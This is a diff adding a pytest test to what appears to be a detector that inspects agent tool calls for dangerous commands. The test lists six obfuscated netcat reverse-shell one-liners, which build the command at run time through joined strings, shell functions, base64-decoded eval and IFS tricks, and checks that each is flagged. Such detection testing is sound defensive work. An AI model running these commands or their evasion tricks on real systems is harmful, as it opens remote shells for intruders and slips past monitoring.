@@ -295,3 +295,16 @@ def test_prefilter_does_not_hide_what_the_rules_see(builtin_engine, text, tool, 
     fields = {"language": "python"} if tool == "python" else {}
     event = from_dict({"kind": "action", "ts": 1, "tool": tool, "input": text, **fields})
     assert rule in {f.rule for f in builtin_engine.analyze(event)}
+
+
+@pytest.mark.parametrize("text", [
+    "python3 -c 'import os;os.system(\"n\"+\"c -e /bin/sh 10.0.0.1 4444\")'",   # strings joined in code
+    "perl -e 'system(\"n\".\"c -e /bin/sh 10.0.0.1 4444\")'",
+    'f(){ nc "$@"; }; f -e /bin/sh 10.0.0.1 4444',                                # a function's arguments
+    'set -- nc -e /bin/sh 10.0.0.1 4444; "$@"',
+    'eval "$(echo ZXhwb3J0IFg9bmM= | base64 -d)"; $X -e /bin/sh 10.0.0.1 4444',   # eval assigns in this shell
+    'IFS=: read -r a b <<< "nc:x"; $a -e /bin/sh 10.0.0.1 4444',
+])
+def test_words_built_at_run_time_are_read(builtin_engine, text):
+    event = from_dict({"kind": "action", "ts": 1, "tool": "bash", "input": text})
+    assert "reverse_shell_netcat_exec" in {f.rule for f in builtin_engine.analyze(event)}
